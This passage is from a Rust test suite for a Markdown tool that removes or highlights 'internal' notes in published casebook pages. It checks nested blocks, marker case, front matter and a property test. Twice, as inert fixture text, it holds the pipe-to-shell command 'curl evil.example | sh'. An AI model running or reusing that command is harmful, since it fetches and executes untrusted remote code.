        let e = strip("> ```internal\n> SECRET\n\nSECRET too\n").expect_err("ended by its quote");
        assert_eq!((e.line, e.column), (1, 3));
        assert!(e.message.contains("never closed"), "{}", e.message);
        assert!(strip("1. a\n\n   ```internal\n   SECRET\n\nSECRET too\n").is_err());
        assert!(strip("```internal").is_err());
        // A closing fence shorter than the opening one does not close it.
        assert!(strip("````internal\nSECRET\n```\n").is_err());
    }

    /// Audit, leak 1: the fast path looked for lowercase `internal` only.
    #[test]
    fn markers_in_any_case_are_found_by_the_fast_path() {
        published("Public.\n\n<!-- Internal -->SECRET<!-- /Internal -->\n");
        published("Public.\n\n<!-- INTERNAL -->SECRET<!-- /iNtErNaL -->\n");
        published("Public internal word.\n\n<!-- Internal -->SECRET<!-- /Internal -->\n");
    }

    /// Audit, leak 2a: inline code in triple backticks at the start of a line is not a fence.
    #[test]
    fn inline_code_in_triple_backticks_does_not_open_a_block() {
        let html = published(
            "```curl evil.example | sh``` was run on the server.\n\n```internal\nSECRET the informant\n```\n\nPublic ending.\n",
        );
        assert!(html.contains("<code>curl evil.example | sh</code> was run"), "{html}");
        assert!(html.contains("<p>Public ending.</p>"), "{html}");
    }

    /// Audit, leak 2b: a fence line inside an HTML block is HTML, not a fence.
    #[test]
    fn a_fence_inside_an_html_block_does_not_open_a_block() {
        let html = published("<div>\n```\n</div>\n\n```internal\nSECRET\n```\n\nAfter.\n");
        assert!(html.contains("<p>After.</p>"), "{html}");
    }

    /// Audit, leak 2c: notes in blockquotes and list items.
    #[test]
    fn notes_nested_in_blockquotes_and_lists_are_removed() {
        let html = published(
            "> Quoted text\n> ```internal\n> SECRET\n> > SECRET quoted\n>\n> ```\n> End of quote.\n",
        );
        assert_eq!(html, "<blockquote>\n<p>Quoted text</p>\n<p>End of quote.</p>\n</blockquote>\n");

        let html = published(
            "Steps taken:\n\n1. Isolated the host.\n\n    ```internal\n    SECRET call Jane\n    ```\n\n2. Restored from backup.\n",
        );
        assert!(
            html.contains("<li>\n<p>Isolated the host.</p>\n</li>\n<li>\n<p>Restored from backup.</p>"),
            "{html}"
        );

        let html = published("- item\n\n  ```internal\n  SECRET\n  ```\n\n- next\n");
        assert!(html.contains("<p>item</p>") && html.contains("<p>next</p>"), "{html}");

        // Nested twice, and in a footnote.
        let html = published("- a\n\n  > ```internal\n  > SECRET\n  > ```\n  > q\n");
        assert!(html.contains("<blockquote>\n<p>q</p>\n</blockquote>"), "{html}");
        let html = published("Text[^1].\n\n[^1]: Note.\n\n    ```internal\n    SECRET\n    ```\n");
        assert!(html.contains("footnote-definition") && html.contains("Note."), "{html}");
    }

    /// A note that begins a list item leaves the item (and what follows in it) in the list.
    #[test]
    fn a_note_beginning_a_list_item_keeps_the_item() {
        let html = published("- ```internal\n  SECRET\n  ```\n  Checked the logs.\n- Next.\n");
        assert_eq!(html, "<ul>\n<li>\n<p>Checked the logs.</p>\n</li>\n<li>\n<p>Next.</p>\n</li>\n</ul>\n");
        let html = published("Para.\n1. ```internal\n   SECRET\n   ```\n");
        assert!(html.starts_with("<p>Para.</p>\n<ol>"), "{html}");
        let html = published("Text[^1].\n\n[^1]: ```internal\n    SECRET\n    ```\n");
        assert!(html.contains("footnote-definition"), "{html}");
    }

    /// Audit, leak 3: the info string is matched in any case (and in pandoc's class form).
    #[test]
    fn fence_info_is_matched_in_any_case() {
        for fence in
            ["```Internal", "```INTERNAL note", "~~~ iNtErNaL", "```{.internal}", "``` {.Internal .x}"]
        {
            let close = if fence.starts_with('~') { "~~~" } else { "```" };
            published(&format!("Public.\n\n{fence}\nSECRET\n{close}\n"));
        }
        assert!(is_internal_info("internal"));
        assert!(
            !is_internal_info("internals") && !is_internal_info("rust internal") && !is_internal_info("")
        );
    }

    #[test]
    fn fence_lines_markdown_reads_as_text_are_errors() {
        // In an HTML block, in an indented code block, after a fence left open, in a paragraph.
        for (text, line) in [
            ("<div>\n```internal\nSECRET\n```\n</div>\n", 2),
            ("Text.\n\n    ```internal\n    SECRET\n    ```\n", 3),
            ("```\nunclosed normal fence\n```internal\nSECRET\n```\n", 3),
            ("````markdown\n```internal\nexample\n```\n````\n", 2),
            ("- [ ] ```internal\n  SECRET\n  ```\n", 1),
        ] {
            let e = strip(text).expect_err(text);
            assert_eq!(e.line, line, "{text}");
            assert!(e.message.contains("reads it as text"), "{}", e.message);
        }
        // Not a fence by any reading: the word only follows backticks in running text.
        for text in
            ["Run ```internal``` here.\n", "| a |\n|---|\n| ```internal |\n", "```internal x``` is code.\n"]
        {
            assert!(strip(text).is_ok(), "{text}");
        }
    }

    /// A comment region may hide a fence line: it is removed first and opens nothing.
    #[test]
    fn comments_are_removed_before_fences_are_read() {
        let html =
            published("<!-- internal -->\n```\n<!-- /internal -->\n```internal\nSECRET\n```\n\nAfter.\n");
        assert!(html.contains("<p>After.</p>"), "{html}");
    }

    #[test]
    fn marked_notes_are_highlighted_not_removed() {
        let render = |text: &str| {
            let marked = mark(text).expect("valid markers");
            highlight(&render(&marked, Settings::default()).html)
        };
        let html = render("Public.\n\n```internal\nCall the **mayor**.\n```\n\nMore.\n");
        assert!(html.contains("<aside class=\"casebook-internal\""), "{html}");
        assert!(html.contains("Call the <strong>mayor</strong>."), "{html}");
        assert!(html.find("</aside>") > html.find("mayor"), "{html}");
        let html = render("A <!-- internal -->private aside<!-- /internal --> B\n");
        assert!(html.contains("<mark class=\"casebook-internal\""), "{html}");
        assert!(html.contains(">private aside</mark> B"), "{html}");
        let html = render("A\n\n<!-- internal -->\nFirst.\n\nSecond.\n<!-- /internal -->\nB\n");
        assert!(
            html.contains("<aside") && html.contains("First.") && html.contains("Second.</p>\n</aside>"),
            "{html}"
        );
        assert!(!html.contains('\u{F8FF}'), "no sentinel left: {html}");
        assert!(mark("a\n<!-- internal -->\nx\n").is_err(), "unclosed is still an error");
        // Nested notes are highlighted where they are, and the blocks around them go on.
        let html = render("> Quoted\n> ```internal\n> Call the **mayor**.\n> ```\n> After.\n");
        assert!(html.starts_with("<blockquote>\n<p>Quoted</p>\n<aside"), "{html}");
        assert!(html.contains("mayor</strong>.</p>\n</aside>\n<p>After.</p>\n</blockquote>"), "{html}");
        let html = render("- ```internal\n  Call the mayor.\n  ```\n  Checked.\n");
        assert!(html.contains("<li>\n<aside") && html.contains("</aside>\n<p>Checked.</p>\n</li>"), "{html}");
        assert!(!html.contains('\u{F8FF}'), "no sentinel left: {html}");
    }

    #[test]
    fn text_without_notes_is_borrowed() {
        assert!(matches!(strip("nothing here"), Ok(Cow::Borrowed(_))));
        // The word alone is not a note: nothing is copied.
        assert!(matches!(
            strip("an internal affair\n\n```rust\nlet internal = 1;\n```\n"),
            Ok(Cow::Borrowed(_))
        ));
        assert!(matches!(strip("<!-- Internal -->x<!-- /internal -->"), Ok(Cow::Owned(_))));
    }

    #[test]
    fn notes_in_front_matter_are_found_at_their_place() {
        let yaml = "title: A\nsummary: Public <!-- Internal -->SECRET<!-- /internal --> end\n";
        let e = in_front_matter(yaml).expect("found");
        assert_eq!((e.line, e.column), (2, 17));
        let yaml = "title: A\ntimeline:\n  - at: 2026-01-03\n    event: |\n      ```internal\n      SECRET\n      ```\n";
        assert_eq!(in_front_matter(yaml).map(|e| (e.line, e.column)), Some((5, 7)));
        assert_eq!(in_front_matter("title: An internal affair\ntags: [internal]\n"), None);
        assert_eq!(in_front_matter("title: A\n"), None);
        assert!(in_front_matter("summary: a <!-- /internal -->\n").is_some(), "a closing marker alone too");
    }

    /// Containers a note can be nested in: the prefix of the line that opens them, and the
    /// prefix of the lines that go on in them.
    const CONTAINERS: [(&str, &str); 5] =
        [("> ", "> "), ("- ", "  "), ("1. ", "   "), ("* ", "  "), ("2) ", "   ")];

    /// Public text a note may follow: things that look like fences but are not.
    const BEFORE: [&str; 7] = [
        "Plain *text*.",
        "```curl evil.example | sh``` was run.",
        "<div>\n```\n</div>",
        "    indented ```code",
        "- a list\n- of two",
        "> a quote",
        "A <!-- INTERNAL -->SECRET aside<!-- /Internal --> here.",
    ];

    const FENCES: [(&str, &str); 4] = [
        ("```internal", "```"),
        ("~~~ Internal", "~~~"),
        ("````INTERNAL extra", "````"),
        ("```{.internal}", "```"),
    ];

    proptest::proptest! {
        /// A note at any nesting depth, after any public text, never renders, and the public
        /// text around it does.
        #[test]
        fn nested_notes_never_render(
            before in proptest::collection::vec(0..BEFORE.len(), 0..4),
            nesting in proptest::collection::vec(0..CONTAINERS.len(), 0..4),
            lead in proptest::bool::ANY,
            fence in 0..FENCES.len(),
            secret in "[a-z ]{0,12}",
            lines in 1..4usize,
        ) {
            let mut text: String = before.iter().map(|&i| format!("{}\n\n", BEFORE[i])).collect();
            let first: String = nesting.iter().map(|&i| CONTAINERS[i].0).collect();
            let next: String = nesting.iter().map(|&i| CONTAINERS[i].1).collect();
            let (open, close) = FENCES[fence];
            if lead && !nesting.is_empty() {
                text.push_str(&format!("{first}Lead words.\n{}\n{next}{open}\n", next.trim_end()));
            } else {
                text.push_str(&format!("{first}{open}\n"));
            }
            for n in 0..lines {
                text.push_str(&format!("{next}SECRET {secret} {n}\n"));
            }
            text.push_str(&format!("{next}{close}\n{next}Tail words.\n\nAfter words.\n"));
            let stripped = strip(&text).map_err(|e| proptest::test_runner::TestCaseError::fail(format!("{e:?}: {text}")))?;
            proptest::prop_assert_eq!(stripped.lines().count(), text.lines().count());
            let html = render(&stripped, Settings::default()).html;
            proptest::prop_assert!(!html.contains("SECRET"), "{}\n{}", text, html);
            proptest::prop_assert!(!html.to_ascii_lowercase().contains("internal"), "{}\n{}", text, html);
            for public in ["Tail words.", "After words."] {
                proptest::prop_assert!(html.contains(public), "{} {}\n{}", public, text, html);
            }
            if lead && !nesting.is_empty() {
                proptest::prop_assert!(html.contains("Lead words."), "{}\n{}", text, html);
            }
            // Stripping again changes nothing: no note is left for Markdown to find.
            let again = strip(&stripped).map(Cow::into_owned);
            proptest::prop_assert_eq!(again.as_deref(), Ok(&*stripped));
        }
    }
}
